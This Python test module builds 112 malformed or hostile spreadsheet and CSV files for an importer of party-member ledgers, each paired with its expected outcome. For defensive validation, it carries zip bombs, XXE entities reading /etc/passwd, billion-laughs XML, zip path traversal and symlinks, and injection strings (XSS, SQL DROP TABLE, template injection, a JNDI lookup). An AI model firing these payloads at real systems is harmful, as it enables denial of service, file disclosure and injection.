"""The 112 kinds of hostile files, made in memory, each with what must become of it.

``expect``: A read exactly; N normalised and shown; R those rows refused, the others go on; F the file
refused with a plain sentence. ``stage`` says who decides: ``read`` (this package), ``table`` (the
mapping) or ``cell`` (the checks of the engine). ``code`` is the refusal's code where reading refuses.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any
from zipfile import ZipInfo

from tests.exchange.bookmaking import (
    BRANCH,
    HEAD,
    MAIN,
    RELATIONS,
    SHEET,
    Edit,
    compound,
    edited,
    identity,
    inline_row,
    ledger,
    ods,
    patched_sizes,
    person,
    raw_xlsx,
    sheet_xml,
    swollen,
    xlsx,
    zipped,
)

SAMPLE_XLS = Path(__file__).resolve().parents[2] / "demo" / "ledgers" / "10-流出党员花名册-马店镇.xls"
Files = list[tuple[str, bytes]]
STYLES = "xl/styles.xml"


@dataclass(frozen=True)
class Hostile:
    """One kind. ``people``: rows a right reading finds in each file; None where it does not matter."""

    id: str
    what: str
    expect: str
    stage: str
    make: Callable[[], Files]
    code: str = ""
    people: int | None = 3
    slow: bool = False


KINDS: dict[str, Hostile] = {}


def kind(
    number: int, expect: str, what: str, stage: str = "read", **facts: Any
) -> Callable[[Callable[[], Any]], Callable[[], Any]]:
    """Register a maker that gives bytes (named x.xlsx), a (name, bytes) pair or a list of such pairs."""

    def register(make: Callable[[], Any]) -> Callable[[], Any]:
        identifier = f"H{number:03d}"
        KINDS[identifier] = Hostile(identifier, what, expect, stage, partial(_files, make), **facts)
        return make

    return register


def _files(make: Callable[[], Any]) -> Files:
    made = make()
    if isinstance(made, bytes):
        return [("x.xlsx", made)]
    return made if isinstance(made, list) else [made]


def simple(number: int, expect: str, what: str, rows: list[Any], stage: str = "read", **facts: Any) -> None:
    """A kind that is nothing but rows in a sheet."""
    kind(number, expect, what, stage, **facts)(partial(xlsx, rows))


def decorated(number: int, expect: str, what: str, more: Callable[[Any, Any], None], **facts: Any) -> None:
    """The plain ledger with something added by the workbook's writer."""
    kind(number, expect, what, **facts)(partial(xlsx, ledger(), more=more))


def spoiled(number: int, expect: str, what: str, part: str, edit: Edit, **facts: Any) -> None:
    """The plain ledger with one part changed."""
    kind(number, expect, what, **facts)(lambda: edited(xlsx(ledger()), {part: edit}))


def cells(number: int, expect: str, what: str, *changes: dict[str, Any]) -> None:
    """Rows of people, each with the cells given; one good row is first."""
    rows = [person(1), *(person(index, **change) for index, change in enumerate(changes, 2))]
    simple(number, expect, what, ledger(*rows), "cell", people=len(rows))


# --- layout -----------------------------------------------------------------------------------------------------
simple(1, "A", "title row above the head", ledger())
simple(2, "A", "three title rows and a unit line", ledger(titles=("云湖县", "柳河镇", "流出党员台账", "单位：人")))
GROUPED = [
    ["序号", "姓名", "公民身份号码", "所在党支部", "流出情况", None, "联系电话"],
    [None, None, None, None, "流出时间", "流入地", None],
]


@kind(3, "A", "two-row merged head")
def two_row_head() -> bytes:
    def merge(_workbook: Any, sheet: Any) -> None:
        for column in (0, 1, 2, 3, 6):
            sheet.merge_range(1, column, 2, column, HEAD[column])
        sheet.merge_range(1, 4, 1, 5, "流出情况")

    return xlsx([["柳河镇流出党员台账"], *GROUPED, *(person(number) for number in (1, 2, 3))], more=merge)


simple(4, "A", "head merged across columns", [["台账"], *GROUPED, *(person(number) for number in (1, 2, 3))])
simple(5, "A", "head in column C", [["柳河镇流出党员台账"], *([None, None, *row] for row in ledger()[1:])])
simple(
    6,
    "A",
    "blank columns between",
    [["台账"], *([cell for value in row for cell in (value, None)] for row in ledger()[1:])],
)
decorated(7, "N", "branch merged over its members", lambda _book, sheet: sheet.merge_range(2, 3, 4, 3, BRANCH))
simple(8, "A", "notes and signatures below", [*ledger(), ["注：外出6个月以上。"], ["填报人：", None, "审核人："]])
simple(9, "A", "subtotals between", ledger(person(1), ["小计", "1人"], person(2), person(3), ["合计", None, 3]))
simple(
    10,
    "F",
    "two tables one under another",
    [*ledger(), [], ["城关镇流入党员台账"], ["姓名", "流入时间"], ["测试己", "2020"]],
    "table",
    people=None,
)


# --- sheets and hiding ------------------------------------------------------------------------------------------
def _second_sheet(
    first: list[Any], second: list[Any], change: Callable[[Any, Any, Any], Any] = lambda *_: None
) -> bytes:
    def more(workbook: Any, sheet: Any) -> None:
        other = workbook.add_worksheet("第二张")
        for number, row in enumerate(second):
            for column, value in enumerate(row):
                other.write(number, column, value)
        change(workbook, sheet, other)

    return xlsx(first, more=more)


kind(11, "A", "data not in the first sheet")(lambda: _second_sheet([["封面"]], ledger()))
kind(12, "A", "several sheets with data", people=6)(lambda: _second_sheet(ledger(), ledger()))
kind(13, "A", "the active sheet is empty")(
    lambda: _second_sheet(ledger(), [], lambda _book, _sheet, other: other.activate())
)
kind(14, "N", "a hidden sheet", people=6)(
    lambda: _second_sheet(ledger(), ledger(), lambda _book, _sheet, other: other.hide())
)
kind(15, "N", "a very hidden sheet", people=6)(
    lambda: _second_sheet(ledger(), ledger(), lambda _book, _sheet, other: other.very_hidden())
)
decorated(16, "A", "hidden rows", lambda _book, sheet: sheet.set_row(3, None, None, {"hidden": True}))
decorated(17, "A", "hidden columns", lambda _book, sheet: sheet.set_column(2, 2, 18, None, {"hidden": True}))
decorated(
    18,
    "A",
    "filtered rows",
    lambda _book, sheet: (sheet.autofilter(1, 0, 4, 6), sheet.set_row(3, None, None, {"hidden": True})),
)
decorated(
    19,
    "A",
    "grouped and collapsed rows",
    lambda _book, sheet: sheet.set_row(3, None, None, {"level": 1, "hidden": True}),
)


@kind(20, "A", "a chart sheet before the data")
def chart_sheet() -> bytes:
    def more(workbook: Any, _sheet: Any) -> None:
        chart = workbook.add_chart({"type": "bar"})
        chart.add_series({"values": "=流出!$A$3:$A$5"})
        charts = workbook.add_chartsheet("图")
        charts.set_chart(chart)
        charts.set_first_sheet()

    return xlsx(ledger(), more=more)


# --- headings ---------------------------------------------------------------------------------------------------
def _heads(number: int, expect: str, what: str, head: list[Any], stage: str = "read", **facts: Any) -> None:
    simple(number, expect, what, ledger(head=head), stage, **facts)


_heads(
    21,
    "F",
    "a heading twice",
    ["序号", "姓名", "公民身份号码", "所在党支部", "流出时间", "姓名", "联系电话"],
    "table",
    people=None,
)
_heads(
    22,
    "F",
    "a required heading missing",
    ["序号", "称呼", "号码", "所在党支部", "日子", "去处", "联系电话"],
    "table",
    people=None,
)
_heads(23, "N", "synonyms", ["编号", "党员姓名", "证件号", "所属支部", "何时外出", "外出流向", "移动电话"])
_heads(
    24,
    "N",
    "blanks, line breaks, full width",
    [" 序 号", "姓　名 ", "公民身份\n号码", "所在党支部", "流出\r\n时间", "流入地", "联系电话\t"],
)
_heads(
    25,
    "N",
    "stars and (必填)",
    ["序号", "*姓名", "公民身份号码（必填）", "所在党支部(必填)", "流出时间＊", "流入地", "联系电话"],
)
simple(
    26,
    "N",
    "unknown columns",
    ledger(*([*person(number), "微信号", 5] for number in (1, 2, 3)), head=[*HEAD, "微信", "积分"]),
)
_heads(
    27, "N", "traditional characters", ["序號", "姓名", "公民身份號碼", "所在黨支部", "流出時間", "流入地", "聯繫電話"]
)
simple(28, "A", "columns in another order", ledger(*(person(number)[::-1] for number in (1, 2, 3)), head=HEAD[::-1]))
_heads(
    29,
    "F",
    "a heading is a number",
    ["序号", "姓名", "公民身份号码", "所在党支部", "流出时间", 2026, "联系电话"],
    "table",
    people=None,
)
simple(30, "F", "only a head", [["台账"], HEAD], "table", people=0)


# --- cells ------------------------------------------------------------------------------------------------------
def _formula(formula: str, value: Any) -> bytes:
    return xlsx(ledger(), more=lambda _book, sheet: sheet.write_formula(3, 4, formula, None, value))


kind(31, "A", "formula with its value", "cell")(lambda: _formula('="2021"&"年"', "2021年"))
kind(32, "R", "formula never calculated", "cell")(
    lambda: edited(_formula("=1+1", 2), {SHEET: lambda text: text.replace(b'<v>2</v></c><c r="F4"', b'</c><c r="F4"')})
)
kind(33, "R", "error values", "cell")(
    lambda: [(f"{error[1:3]}.xlsx", _formula("=NA()", error)) for error in ("#REF!", "#N/A", "#VALUE!")]
)
cells(34, "R", "a boolean among texts", {"name": True}, {"phone": False})
decorated(
    35,
    "A",
    "rich text",
    lambda book, sheet: sheet.write_rich_string(2, 1, book.add_format({"bold": True}), "测试", "乙"),
)
cells(36, "N", "leading apostrophe", {"id": "'" + identity(5)})
cells(37, "N", '="…" wrapper', {"id": f'="{identity(5)}"'})
cells(38, "N", "line breaks and tabs in a name", {"name": "测\n试"}, {"name": "测试\t"})
kind(39, "R", "enormous cells", "cell", people=3)(
    lambda: raw_xlsx(
        sheet_xml(
            inline_row(n, row)
            for n, row in enumerate([HEAD, person(1), person(2, name="测" * 32_767), person(3, name="测" * 100_000)], 1)
        )
    )
)
# --- identity numbers and phones --------------------------------------------------------------------------------
cells(40, "R", "identity as a number", {"id": 3.79981196104025e17}, {"id": 379981196104025000})
cells(41, "R", "identity with .0", {"id": "379981196104025453.0"})
cells(42, "N", "fifteen digits", {"id": "379981610402545"})
cells(43, "N", "lower-case x", {"id": next(text for text in map(identity, range(99)) if text.endswith("X")).lower()})
cells(44, "N", "full-width digits", {"id": identity(5).translate({48 + digit: 0xFF10 + digit for digit in range(10)})})
cells(45, "N", "zero-width characters", {"id": "\u200b" + identity(5) + "\ufeff"})
cells(46, "N", "hard and ideographic blanks", {"id": identity(5)[:6] + "\u00a0" + identity(5)[6:] + "\u3000"})
cells(
    47,
    "N",
    "Cyrillic and full-width X",
    *(
        {"id": text[:-1] + letter}
        for text, letter in zip(
            [text for text in map(identity, range(99)) if text.endswith("X")][:2], "ХＸ", strict=True
        )
    ),
)
cells(48, "R", "wrong check digit", {"id": identity(5)[:-1] + ("0" if identity(5)[-1] != "0" else "1")})
cells(49, "R", "impossible birth date", {"id": identity(5, "19611302")})
cells(50, "R", "17 and 19 digits", {"id": identity(5)[:17]}, {"id": identity(6) + "1"})
cells(
    51,
    "N",
    "phones in disguise",
    {"phone": 19900000005.0},
    {"phone": "+86 199-0000-0006"},
    {"phone": "19900000007/19900000008"},
)
cells(52, "R", "one person, two names", {"id": identity(9), "name": "测试甲"}, {"id": identity(9), "name": "测试乙"})


# --- dates ------------------------------------------------------------------------------------------------------
def _dated(value: Any, pattern: str = "yyyy-mm-dd", **options: Any) -> bytes:
    def more(book: Any, sheet: Any) -> None:
        style = book.add_format({"num_format": pattern})
        (sheet.write_number if isinstance(value, (int, float)) else sheet.write_datetime)(3, 4, value, style)

    return xlsx(ledger(), more=more, **options)


kind(53, "A", "a real date", "cell")(lambda: _dated(dt.date(2021, 9, 28)))
kind(54, "A", "1904 workbook", "cell")(lambda: _dated(dt.date(2021, 9, 28), date_1904=True))
cells(55, "N", "dates as text", {"left": "2026.3.5"}, {"left": "2026年3月"}, {"left": "20260305"})
cells(56, "R", "ambiguous date", {"left": "03/04/05"})
kind(57, "R", "the day that never was (serial 60)", "cell")(lambda: _dated(60))
cells(58, "R", "dates that cannot be", {"left": "2999-01-01"}, {"left": "9999-12-31"}, {"left": "-3"})
kind(59, "A", "a date with a time", "cell")(lambda: _dated(dt.datetime(2021, 9, 28, 23, 59)))  # noqa: DTZ001
cells(60, "R", "words for a date", {"left": "长期"}, {"left": "至今"})


# --- size and shape ---------------------------------------------------------------------------------------------
def _without_dimension(text: bytes) -> bytes:
    start = text.index(b"<dimension")
    return text[:start] + text[text.index(b"/>", start) + 2 :]


spoiled(
    61,
    "A",
    "a wrong dimension",
    SHEET,
    lambda text: _without_dimension(text).replace(b"<sheetViews", b'<dimension ref="A1"/><sheetViews', 1),
)


def _people_rows(count: int, first: int = 2) -> Iterator[str]:
    yield inline_row(1, HEAD)
    tail = person(1)[3:]
    for number in range(first, first + count):
        yield inline_row(number, [number, f"测试{number}", f"379981{number:012d}", *tail])


@kind(62, "A", "a million formatted blank rows", people=2)
def formatted_blanks() -> bytes:
    def rows() -> Iterator[str]:
        yield from _people_rows(2)
        yield from (f'<row r="{number}" spans="1:7" s="1" customFormat="1" ht="15"/>' for number in range(4, 1_048_577))

    return raw_xlsx(sheet_xml(rows()))


kind(63, "A", "100,000 rows and LibreOffice's dimension", people=100_000, slow=True)(
    lambda: raw_xlsx(sheet_xml(_people_rows(100_000), before='<dimension ref="A1:G65536"/>'))
)
spoiled(64, "A", "no dimension", SHEET, _without_dimension)
kind(65, "A", "data after 5,000 blank rows", people=3)(lambda: raw_xlsx(sheet_xml(_people_rows(3, first=5_002))))
kind(66, "F", "200,001 rows", code="too_many_rows", slow=True)(lambda: raw_xlsx(sheet_xml(_people_rows(200_001))))
FAR = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
kind(67, "F", "a cell in the last corner", code="sparse")(lambda: raw_xlsx(sheet_xml([*_people_rows(3), FAR])))
kind(68, "F", "rows out of order", code="rows_disordered")(
    lambda: [
        ("order.xlsx", raw_xlsx(sheet_xml([inline_row(1, HEAD), inline_row(3, person(1)), inline_row(2, person(2))]))),
        ("twice.xlsx", raw_xlsx(sheet_xml([inline_row(1, HEAD), inline_row(2, person(1)), inline_row(2, person(2))]))),
    ]
)
kind(69, "A", "cells and rows without references")(
    lambda: raw_xlsx(sheet_xml(inline_row(None, row) for row in ledger()))
)
kind(70, "F", "a shared string that is not there", code="damaged")(
    lambda: raw_xlsx(sheet_xml([inline_row(1, HEAD), '<row r="2"><c r="A2" t="s"><v>99</v></c></row>']))
)

# --- attacks ----------------------------------------------------------------------------------------------------
kind(71, "F", "zip bomb in one entry", code="zip_bomb")(lambda: swollen("xl/media/a.bin", bytes(1024 * 1024), 201))
kind(72, "F", "zip within a zip", code="nested_zip")(lambda: ("x.zip", zipped([("a.zip", zipped([("a.txt", b"a")]))])))
kind(73, "F", "10,000 entries", code="zip_bomb")(
    lambda: edited(xlsx(ledger()), {}, {f"xl/media/{number}": b"" for number in range(10_000)})
)
NOISE = "".join(f"<si><t>{number % 1000}</t></si>" for number in range(40_000)).encode()
kind(74, "F", "enormous shared strings", code="zip_bomb", slow=True)(
    lambda: swollen("xl/sharedStrings.xml", NOISE, 250 * 1024 * 1024 // len(NOISE))
)


@kind(75, "F", "42,000 merged ranges", code="too_complex")
def merges() -> bytes:
    ranges = "".join(f'<mergeCell ref="A{number}:A{number + 1}"/>' for number in range(2, 84_002, 2))
    return raw_xlsx(sheet_xml(_people_rows(3), after=f"<mergeCells>{ranges}</mergeCells>"))


spoiled(
    76,
    "F",
    "two million styles",
    STYLES,
    lambda text: text.replace(b"</cellXfs>", b"<xf/>" * 2_000_000 + b"</cellXfs>"),
    code="too_complex",
)


def _declared(number: int, what: str, declaration: str, encoding: str = "utf-8", name: str = "") -> None:
    """A worksheet with a document type declaration, in an encoding of its own."""

    def edit(text: bytes) -> bytes:
        body = text.decode().partition("?>")[2]
        prolog = f'<?xml version="1.0" encoding="{name or encoding}"?><!DOCTYPE worksheet [{declaration}]>'
        return (prolog + body).encode(encoding)

    spoiled(number, "F", what, SHEET, edit, code="xml_forbidden")


_declared(77, "external entity, file", '<!ENTITY x SYSTEM "file:///etc/passwd">')
_declared(78, "external entity, http", '<!ENTITY x SYSTEM "http://127.0.0.1:9/x">')
_declared(
    79,
    "billion laughs",
    '<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {after} "{f"&{before};" * 10}">' for before, after in zip("abcdefgh", "bcdefghi", strict=True)
    ),
)
_declared(80, "quadratic blow-up", f'<!ENTITY a "{"a" * 50_000}">')
_declared(81, "DTD in UTF-16", '<!ENTITY x "y">', "utf-16")
_declared(82, "DTD in UTF-7", '<!ENTITY x "y">', "utf-7")


@kind(83, "F", "entries that climb, link or repeat", code="zip_names")
def bad_entries() -> Files:
    link = ZipInfo("xl/media/link")
    link.external_attr = 0o120777 << 16
    parts: list[Any] = [("xl/workbook.xml", b"<a/>")]
    wanted: list[Any] = [
        ("../../x", b"x"),
        (link, b"/etc/passwd"),
        ("XL/Workbook.xml", b"<b/>"),
        ("/abs", b"x"),
        ("..\\x", b"x"),
    ]
    return [(f"{number}.xlsx", zipped([*parts, extra])) for number, extra in enumerate(wanted)]


kind(84, "F", "lying sizes", code="zip_bomb")(
    lambda: [
        ("less.xlsx", patched_sizes(xlsx(ledger()), SHEET, 10)),
        ("more.xlsx", patched_sizes(xlsx(ledger()), SHEET, 100_000)),
        ("huge.xlsx", patched_sizes(xlsx(ledger()), SHEET, 0x7FFFFFFF)),
    ]
)


# --- other formats ----------------------------------------------------------------------------------------------
def _csv(delimiter: str = ",", name: str = "测试甲") -> str:
    rows = ledger(person(1, name=name), person(2), person(3))[1:]
    return "".join(delimiter.join(str(cell) for cell in row) + "\r\n" for row in rows)


def _text(number: int, expect: str, what: str, *contents: bytes, **facts: Any) -> None:
    kind(number, expect, what, **facts)(lambda: [(f"{index}.csv", content) for index, content in enumerate(contents)])


_text(85, "A", "CSV in GBK", _csv().encode("gbk"))
_text(86, "A", "four-byte GB18030", _csv(name="𠮷㛃").encode("gb18030"))
_text(87, "A", "UTF-8 with mark", _csv().encode("utf-8-sig"))
_text(88, "A", "UTF-8 without mark", _csv().encode())
_text(89, "A", "UTF-16", b"\xff\xfe" + _csv("\t").encode("utf-16-le"), b"\xfe\xff" + _csv("\t").encode("utf-16-be"))
_text(
    90,
    "F",
    "Big5",
    "序號,姓名,身份證號碼,所在黨支部,聯繫電話\r\n1,測試,379981196104025453,雲湖縣柳河鎮魏莊村黨支部,19900000001\r\n".encode(
        "big5", "replace"
    ),
    code="encoding",
)
_text(
    91,
    "F",
    "two encodings",
    _csv().encode("gbk") + _csv().encode(),
    _csv().encode() + b"\xff\xff,\xfe\r\n",
    code="encoding",
)
_text(92, "F", "NUL bytes", _csv().encode().replace(b"2021", b"20\x0021"), code="nul_bytes")
_text(
    93,
    "A",
    "semicolons, tabs, quoted line breaks",
    _csv(";").encode(),
    _csv("\t").encode(),
    _csv(name='"测试\n甲"').encode(),
)
_text(94, "F", "a quote that is never closed", _csv(name='"测试甲').encode(), code="csv_quote")
kind(95, "F", "a web page named .xls", code="html_as_xls")(
    lambda: [
        ("1.xls", "<html><table><tr><td>姓名</td></tr></table></html>".encode("gbk")),
        ("2.xls", "\ufeff<!DOCTYPE html><meta charset=utf-8><table></table>".encode()),
    ]
)
kind(96, "F", "XML spreadsheet 2003", code="xml_spreadsheet")(
    lambda: (
        "x.xls",
        b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
    )
)

# --- containers -------------------------------------------------------------------------------------------------
kind(97, "A", "a real .xls", people=32)(lambda: ("x.xls", SAMPLE_XLS.read_bytes()))
kind(98, "A", ".xls named .xlsx", people=32)(lambda: ("x.xlsx", SAMPLE_XLS.read_bytes()))
kind(99, "A", ".xlsx named .xls or .csv")(lambda: [("x.xls", xlsx(ledger())), ("x.csv", xlsx(ledger()))])
kind(100, "N", "a macro")(lambda: ("x.xlsm", edited(xlsx(ledger()), {}, {"xl/vbaProject.bin": compound("VBA")})))
kind(101, "F", ".xlsb", code="xlsb")(
    lambda: ("x.xlsb", zipped([("[Content_Types].xml", b"<a/>"), ("xl/workbook.bin", b"\0")]))
)
kind(102, "F", "a password", code="encrypted")(lambda: compound("EncryptionInfo", "EncryptedPackage"))
decorated(103, "A", "a protected sheet", lambda _book, sheet: sheet.protect("x"))
kind(104, "A", ".ods")(lambda: ("x.ods", ods(ledger())))
kind(105, "A", "strict OOXML")(
    lambda: edited(
        xlsx(ledger()),
        lambda text: text.replace(
            RELATIONS.encode(), b"http://purl.oclc.org/ooxml/officeDocument/relationships"
        ).replace(MAIN.encode(), b"http://purl.oclc.org/ooxml/spreadsheetml/main"),
    )
)
kind(106, "F", "cut off, or no table at all", code="*")(
    lambda: [
        ("cut.xlsx", xlsx(ledger())[:-200]),
        ("empty.xlsx", b""),
        ("blank.csv", b"\r\n \r\n"),
        ("a.xlsx", b"%PDF-1.7 ..."),
        ("b.xlsx", b"\xff\xd8\xff\xe0" + bytes(100)),
        ("c.xlsx", zipped([("word/document.xml", b"<a/>")])),
        ("d.et", compound("SomethingOfWps")),
        ("e.rar", b"Rar!\x1a\x07\x00" + bytes(50)),
        ("f.7z", b"7z\xbc\xaf\x27\x1c" + bytes(50)),
        ("g.xls", b"\x09\x08\x08\x00\x00\x05"),
    ]
)


# --- content ----------------------------------------------------------------------------------------------------
kind(107, "A", "links to elsewhere")(
    lambda: edited(
        xlsx(ledger()),
        {},
        {
            "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
            "xl/connections.xml": b'<connections><connection dbPr="http://127.0.0.1:9/"/></connections>',
        },
    )
)
kind(108, "N", "pictures, objects, comments")(
    lambda: edited(
        xlsx(ledger(), more=lambda _book, sheet: sheet.write_comment(2, 1, "家属 19900000009")),
        {},
        {
            "xl/media/image1.png": b"\x89PNG",
            "xl/embeddings/oleObject1.bin": compound("Ole"),
        },
    )
)
decorated(
    109, "A", "odd sizes of rows and columns", lambda _book, sheet: (sheet.set_column(0, 1, 0), sheet.set_row(2, 0))
)
NASTY = "<script>alert(1)</script>../\r\n" + "长" * 200
kind(110, "N", "names of file and sheet that bite")(lambda: (NASTY + ".xlsx", xlsx(ledger(), name="<b>..&'x\"")))
PAYLOADS = [
    "<script>alert(1)</script>",
    "'; DROP TABLE x; --",
    "{{ 7*7 }}",
    '=HYPERLINK("http://x")',
    "${jndi:ldap://x}",
]
cells(
    111,
    "N",
    "payloads in every cell",
    *(dict.fromkeys(("name", "branch", "left", "place", "phone"), text) for text in PAYLOADS),
)
simple(
    112,
    "R",
    "somebody else's branch, and columns id and role",
    ledger(*([*person(n, branch="中共别县别镇委员会"), 1, "admin"] for n in (1, 2, 3)), head=[*HEAD, "id", "role"]),
    "cell",
)
